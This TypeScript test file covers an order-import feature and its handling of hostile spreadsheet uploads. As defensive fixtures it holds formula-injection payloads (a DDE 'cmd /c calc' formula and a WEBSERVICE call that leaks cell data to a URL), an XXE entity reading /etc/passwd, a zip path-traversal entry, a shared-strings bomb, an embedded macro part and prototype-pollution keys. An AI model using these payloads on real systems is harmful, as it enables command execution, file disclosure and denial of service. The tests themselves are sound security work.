import app from '@adonisjs/core/services/app'
import { test } from '@japa/runner'
import { SessionDirectory } from '#core/session_directory'
import { findUploadedFile } from '#media/links/file_access'
import { sheetRows, type SheetRow } from '#media/sheets/sheet_rows'
import { cellsOf, number, row, said } from '#tests/support/files/cells'
import { checked, checkedFile, importer, lineOf, ordersIn, sendSheet, type Importer } from '#tests/support/imports'
import { trading } from '#tests/support/orders'

const MOST = 10_000

/** The rows that the memory-limited parser process reads from a sheet. */
async function readBy({ id, token }: Importer, bytes: Buffer): Promise<SheetRow[]> {
  const sent = await sendSheet(token, bytes)
  if (sent.status !== 200) throw new Error(sent.message)
  const actor = await (await app.container.make(SessionDirectory)).byUserId(id)
  const content = await findUploadedFile((sent.data.file as { url: string }).url, 'import', actor)
  const rows: SheetRow[] = []
  for await (const one of sheetRows(content!, MOST)) rows.push(one)
  return rows
}

const LETTER = String.fromCodePoint
const COLUMNS = Object.keys(lineOf('1'))
const headings = row(1, ...COLUMNS.map((name, at) => said(`${LETTER(65 + at)}1`, name)))
const values = Object.values(lineOf('1')).map(String)
/** An order in the template's layout, with the order number in a cell of the given type. */
const orderIn = (at: number, no: string) =>
  row(at, no, ...values.slice(1).map((text, i) => said(`${LETTER(66 + i)}${at}`, text)))

const READ = [
  {
    what: 'a long number that was typed as a number keeps every digit a sheet is sure of',
    sheet: { rows: row(1, number('A1', '202611220000123'), number('B1', '2.02611220000123E14')) },
    cells: ['202611220000123', '202611220000123'],
  },
  {
    what: 'one that has lost its last digits says so',
    sheet: { rows: row(1, number('A1', '2.0261122000012345E17')) },
    cells: ['2.0261122000012346e+17'],
  },
  {
    what: 'a postcode with the noughts that are seen',
    sheet: { rows: row(1, number('A1', '1234', 1), number('B1', '1234')), formats: ['00000'] },
    cells: ['01234', '1234'],
  },
  {
    what: 'a day by its number',
    sheet: { rows: row(1, number('A1', '46348', 1)), formats: ['yyyy\\-mm\\-dd'] },
    cells: ['2026-11-22'],
  },
  {
    what: 'numbers as text as they stand',
    sheet: { rows: row(1, said('A1', '00012'), said('B1', '1e5'), said('C1', '１２３')) },
    cells: ['00012', '1e5', '１２３'],
  },
  {
    what: 'what cannot be seen is gone',
    sheet: {
      rows: row(1, said('A1', 'D-1\u202e23\u202c'), said('B1', '\u200bD\ufeff-2'), said('C1', 'a_x0000_b&#9;c&#10;d')),
    },
    cells: ['D-123', 'D-2', 'a b c d'],
  },
  {
    what: 'of a formula what it came to, and nothing of what it would do',
    sheet: {
      rows: row(
        1,
        `<c r="A1"><f>1+1</f><v>2</v></c>`,
        `<c r="B1" t="str"><f>cmd|' /c calc'!A0</f><v>fine</v></c>`,
        `<c r="C1"><f>WEBSERVICE("http://example.com/"&amp;A1)</f></c>`,
        `<c r="D1" t="e"><v>#REF!</v></c>`,
      ),
    },
    cells: ['2', 'fine', '', '#'],
  },
  {
    what: 'merged headings stand where they begin',
    sheet: {
      rows: row(1, said('A1', 'Order'), said('C1', 'Pieces')),
      behind: '<mergeCells count="1"><mergeCell ref="A1:B1"/></mergeCells>',
    },
    cells: ['Order', '', 'Pieces'],
  },
  {
    what: 'no more than anybody needs of a cell as long as a book, and of sixteen thousand columns',
    sheet: { rows: row(1, said('A1', 'x'.repeat(32_767)), said('XFD1', 'last')) },
    cells: ['x'.repeat(2000)],
  },
  {
    what: 'of a long cell no half of a character, which nobody could keep',
    sheet: { rows: row(1, said('A1', `${'x'.repeat(1999)}😀`)) },
    cells: ['x'.repeat(1999)],
  },
]

test.group('Order import | hostile sheets', (group) => {
  trading(group)

  test('{what}')
    .with(READ)
    .run(async ({ client, assert }, { sheet, cells }) => {
      const [first] = await readBy(await importer(client), cellsOf(sheet))
      assert.deepEqual(first, [1, cells])
    })
    .tags(['IMP-01', 'IMP-02'])

  test('a million empty rows and sixteen thousand columns yield the one order in them', async ({ client, assert }) => {
    const by = await importer(client)
    const bytes = cellsOf({
      before: '<dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384" width="9"/></cols>',
      rows: `${headings}${orderIn(2, said('A2', 'E-1'))}${row(1_048_576, '<c r="XFD1048576"/>')}`,
    })
    assert.containSubset(await checkedFile(by, bytes), { status: 'checked', order_count: 1, ready_count: 1 })
  }).tags(['IMP-01'])

  test('a shortened order number is reported at its row and creates no order', async ({ client, assert }) => {
    const by = await importer(client)
    const bytes = cellsOf({
      rows: `${headings}${orderIn(2, number('A2', '2.0261122000012345E17'))}${orderIn(3, said('A3', '202611220000123456'))}`,
    })
    const found = await checkedFile(by, bytes)
    assert.containSubset(found, { status: 'checked', order_count: 2, ready_count: 1 })
    const orders = JSON.stringify(await ordersIn(by, found.id))
    assert.include(orders, '202611220000123456')
    assert.include(orders, 'shortened this order number to 2.0261122000012346e+17')
  }).tags(['IMP-01'])

  test('{what}: rejected before parsing or aborted within limits, and the next sheet is read')
    .with([
      {
        what: 'entities of a file elsewhere',
        bytes: () =>
          cellsOf({
            rows: '',
            more: {
              'xl/sharedStrings.xml':
                '<!DOCTYPE sst [<!ENTITY x SYSTEM "file:///etc/passwd">]><sst><si><t>&x;</t></si></sst>',
            },
          }),
        reason: 'E_UPLOAD_ACTIVE',
      },
      {
        what: 'a bomb of shared strings',
        bytes: () => cellsOf({ rows: '', strings: `<si><t>${'x'.repeat(110 * 1024 * 1024)}</t></si>` }),
        reason: 'E_UPLOAD_UNPACKED',
      },
      {
        what: 'a million and a half shared strings',
        bytes: () => cellsOf({ rows: headings, strings: '<si><t>a</t></si>'.repeat(1_500_000) }),
        reason: null,
      },
      {
        what: 'a page of markup in place of the sheet',
        bytes: () => cellsOf({ rows: '', more: { 'xl/worksheets/sheet1.xml': `<a>${'<b>'.repeat(500_000)}` } }),
        reason: null,
      },
      {
        what: 'half a sheet',
        bytes: () => cellsOf({ rows: headings }).subarray(0, 900),
        reason: 'E_UPLOAD_INCOMPLETE',
      },
      {
        what: 'macros by a harmless name',
        bytes: () => cellsOf({ rows: headings, more: { 'xl/vbaProject.bin': 'x' } }),
        reason: 'E_UPLOAD_ACTIVE',
      },
      {
        what: 'an entry that leaves its folder',
        bytes: () => cellsOf({ rows: headings, more: { 'xl/../../../evil.xml': 'x' } }),
        reason: 'E_UPLOAD_INCOMPLETE',
      },
      {
        what: 'names that every object has',
        bytes: () => cellsOf({ rows: `<row r="__proto__">${said('constructor', 'x')}</row>` }),
        reason: null,
      },
    ])
    .run(async ({ client, assert }, { bytes, reason }) => {
      const by = await importer(client)
      const sent = await sendSheet(by.token, bytes())
      if (reason) assert.equal(sent.data.reason, reason, JSON.stringify(sent.data))
      else {
        const found = await checkedFile(by, bytes())
        assert.equal(found.status, 'failed')
        assert.isAbove(found.message?.length ?? 0, 10)
      }
      assert.containSubset(await checked(by, [lineOf('N-1')]), { status: 'checked', ready_count: 1 })
    })
    .tags(['IMP-01', 'UPL-03'])
})
